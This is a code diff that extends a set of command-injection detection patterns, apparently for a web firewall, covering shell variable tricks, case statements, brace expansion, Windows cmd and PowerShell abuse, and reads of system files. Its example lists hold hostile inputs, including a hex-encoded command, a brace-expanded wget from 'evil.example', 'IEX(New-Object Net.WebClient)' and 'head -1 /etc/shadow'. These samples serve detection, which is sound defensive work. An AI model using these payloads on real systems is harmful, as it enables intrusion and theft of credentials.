@@ -31,12 +31,15 @@ const rows: readonly PatternDetector[] = [
     confirmedBy: [932],
     needs: 0,
     literals: words(
-      '$0 ${0 $shell ${shell $bash ${bash path= ifs= ld_preload= bash_env= perl5lib= prompt_command=',
-    ),
+      '$0 ${0 $shell ${shell $bash ${bash path= ifs= ld_preload= bash_env= perl5lib= prompt_command= $',
+    ).concat('. /'),
     pattern:
-      /[;|&\n`(]\s{0,8}\$\{?(?:0|SHELL|BASH)\b\}?(?=\s|$|[;|&<])|[;|&\n]\s{0,8}(?:PATH|IFS|LD_PRELOAD|LD_LIBRARY_PATH|BASH_ENV|PYTHONPATH|PERL5LIB|PROMPT_COMMAND)=(?!\/\s{0,4}(?:;|$))/g,
+      /[;|&\n`(]\s{0,8}\$\{?(?:0|SHELL|BASH)\b(?:[#%][^}\s]{0,16})?\}?(?=\s|$|[;|&<])|(?:^|[;|&\n`])\s{0,4}\w{1,16}=[^\s;|&]{0,64}(?=[;&|])[^\n]{0,80}[;|&]\s{0,4}\$\{?\w{1,16}\}?(?=$|[\s;|&$])|[;|&\n`]\s{0,4}\$'(?:\\|\w)|[;|&]\s{0,4}\. \/\w|[;|&\n]\s{0,8}(?:PATH|IFS|LD_PRELOAD|LD_LIBRARY_PATH|BASH_ENV|PYTHONPATH|PERL5LIB|PROMPT_COMMAND)=(?!\/\s{0,4}(?:;|$))/g,
     examples: {
-      attacks: ['8.8.8.8;$0 -c whoami', '1;PATH=uploads;command_ls.png', '|$SHELL'],
+      attacks: [
+        ...['8.8.8.8;$0 -c whoami', '1;PATH=uploads;command_ls.png', '|$SHELL'],
+        ...[';a=i;b=d;$a$b', ';. /tmp/x', ";$'\\x69\\x64'"],
+      ],
       benign: ['sid=1; PATH=/', 'a; path=/x', '$0 and $1'],
     },
   },
@@ -48,9 +51,9 @@ const rows: readonly PatternDetector[] = [
     strong: true,
     confirmedBy: [932],
     needs: SEEN.semicolon,
-    literals: words('while until for then done'),
+    literals: words('while until for then done case'),
     pattern:
-      /\b(?:while|until|for)\s[^;\n]{1,80};\s{0,4}do\b|\bif\s[^;\n]{1,80};\s{0,4}then\s[^\n]{1,120};\s{0,4}(?:fi|else)\b|;\s{0,4}done(?:\s{0,4}$|;)/g,
+      /\b(?:while|until|for)\s[^;\n]{1,80};\s{0,4}do\b|\bif\s[^;\n]{1,80};\s{0,4}then\s[^\n]{1,120};\s{0,4}(?:fi|else)\b|\bcase\s{1,4}\S{1,32}\s{1,4}in\s[^;\n]{1,60}\)[^;\n]{1,80};;|;\s{0,4}done(?:\s{0,4}$|;)/g,
     examples: {
       attacks: [
         'while true; do python3 -c x;break;done',
@@ -122,9 +125,9 @@ const rows: readonly PatternDetector[] = [
     needs: SEEN.brace | SEEN.comma,
     literals: ['{'],
     pattern:
-      /\{["'\\]{0,2}(?:cat|ls|id|wget|curl|ping|uname|whoami|echo|nc|bash|sh|rm|head|tail|find|sleep|nslookup|tac)["'\\]{0,2},[^{}\s"':]{1,100}\}/g,
+      /\{["'\\]{0,2}(?:cat|ls|id|wget|curl|ping|uname|whoami|echo|nc|bash|sh|rm|head|tail|find|sleep|nslookup|tac)["'\\]{0,2},[^{}\s"':]{1,100}\}|[;|&`]\s{0,4}\{["'\\]{0,2}[a-z]{2,12}["'\\]{0,2},[^{}\s"']{1,100}\}/g,
     examples: {
-      attacks: ['{cat,/etc/hosts}', '{ls,-la}'],
+      attacks: ['{cat,/etc/hosts}', '{ls,-la}', 'x;{wget,http://evil.example/x}'],
       benign: ['{cat, dog}', '{"id":1,"a":2}', '{a,b}'],
     },
   },
@@ -137,12 +140,15 @@ const rows: readonly PatternDetector[] = [
     confirmedBy: [932],
     needs: 0,
     literals: words(
-      'cmd powershell iex invoke-expression new-object certutil %comspec %systemroot %windir /add get- $env: mshta &',
+      'cmd powershell iex invoke-expression new-object certutil %comspec %systemroot %windir /add get- $env: mshta & net reg timeout for',
     ),
     pattern:
-      /\bcmd(?:\.exe)?["']?\s{1,4}\/[ckr]\b|\bpowershell(?:\.exe)?["']?\s{1,4}(?:-\w{1,20}\s{1,4}){0,1}(?:-(?:e|en|enc\w{0,12}|c|command|nop\w{0,6}|noni\w{0,12}|w\w{0,12}|ep|exec\w{0,12}|version|file|f)\b|iex|invoke|\(|\[|get-|\$)|\b(?:iex|invoke-expression)\s{0,4}[($"']|new-object\s{1,4}(?:system\.)?net\.(?:webclient|sockets)|\bcertutil(?:\.exe)?\s{1,4}[-/](?:urlcache|decode|f)|%(?:comspec|systemroot|windir)%|\bnet(?:\.exe)?\s{1,4}(?:user|localgroup)\s[^\n]{0,60}\/add|\bget-(?:process|childitem|content|wmiobject|ciminstance|service|host)\b\s{0,4}(?:$|[-|;/)])|\$env:\w|\bmshta(?:\.exe)?\s{1,4}(?:https?|vbscript|javascript):|&\s{0,4}(?:dir|ver|set|type\s\S{1,64}\.(?:ini|txt|log|config))\s{0,4}(?:[&|c]|$)/gi,
+      /\bcmd(?:\.exe)?["']?\s{1,4}\/[ckr]\b|^[=+@-][^\n]{0,60}\bcmd\s{0,2}\|\s{0,2}["']?\s{0,2}\/c|\bpowershell(?:\.exe)?["']?\s{1,4}(?:-\w{1,20}\s{1,4}){0,1}(?:-(?:e|en|enc\w{0,12}|c|command|nop\w{0,6}|noni\w{0,12}|w\w{0,12}|ep|exec\w{0,12}|version|file|f)\b|iex|invoke|\(|\[|get-|\$)|\b(?:iex|invoke-expression)\s{0,4}[($"']|new-object\s{1,4}(?:system\.)?net\.(?:webclient|sockets)|\bcertutil(?:\.exe)?\s{1,4}[-/](?:urlcache|decode|f)|%(?:comspec|systemroot|windir)%|\bnet(?:\.exe)?\s{1,4}(?:user|localgroup)\s[^\n]{0,60}\/add|\bget-(?:process|childitem|content|wmiobject|ciminstance|service|host)\b\s{0,4}(?:$|[-|;/)])|\$env:\w|\bmshta(?:\.exe)?\s{1,4}(?:https?|vbscript|javascript):|\bfor\s{1,4}\/[fdlr]\s{1,4}["'%(]|\breg(?:\.exe)?\s{1,4}(?:query|add|delete|save)\s{1,4}["']?hk|[;|&]\s{0,4}timeout(?:\.exe)?\s{1,4}\/t|&\s{0,4}echo\s{1,4}%\w|&\s{0,4}(?:copy|del|start|move)\s{1,4}[\w.\\:/*]{1,64}(?:\s{1,4}[\w.\\:/*]{1,64})?\s{0,4}$|[;|&]\s{0,4}net(?:\.exe)?\s{1,4}(?:view|user|localgroup|start|use|share|accounts|config|session)\b|&\s{0,4}(?:dir|ver|set|type\s\S{1,64}\.(?:ini|txt|log|config))\s{0,4}(?:[&|c]|$)/gi,
     examples: {
-      attacks: ['cmd /c dir', 'powershell -enc AAAA', 'IEX(New-Object Net.WebClient)', '1& dir'],
+      attacks: [
+        ...['cmd /c dir', 'powershell -enc AAAA', 'IEX(New-Object Net.WebClient)', '1& dir'],
+        '| net view',
+      ],
       benign: ['use cmd or powershell', 'net user group', 'get process', 'set & forget'],
     },
   },
@@ -160,6 +166,22 @@ const rows: readonly PatternDetector[] = [
     examples: {
       attacks: ['x 2>&1', 'echo a > /tmp/b', 'x|base64 -d'],
       benign: ['a > b', '2 > 1', 'a << b'],
+    },
+  },
+  {
+    id: 198_219,
+    name: 'shell-reads-system-file',
+    proves: 'is a command that reads a file of the operating system',
+    source: posix,
+    strong: true,
+    confirmedBy: [930, 932],
+    needs: SEEN.slash,
+    literals: words('/etc/ /proc/'),
+    pattern:
+      /(?:^|[=:])\s{0,4}(?:cat|tac|head|tail|more|less|nl|od|xxd|sort|strings|cp|curl|wget|base64)\s{1,8}(?:-{1,2}[\w=]{1,16}\s{1,8}){0,3}(?:file:\/\/)?\/(?:etc\/(?:passwd|shadow|group|hosts|issue|os-release|crontab)|proc\/(?:self|version|\d{1,7}))(?![\w-])/g,
+    examples: {
+      attacks: ['cat /etc/passwd', 'exec:head -1 /etc/shadow'],
+      benign: ['how to cat /etc/passwd', 'cat /etc/fstab.d', 'see /etc/hosts'],
     },
   },
 ];
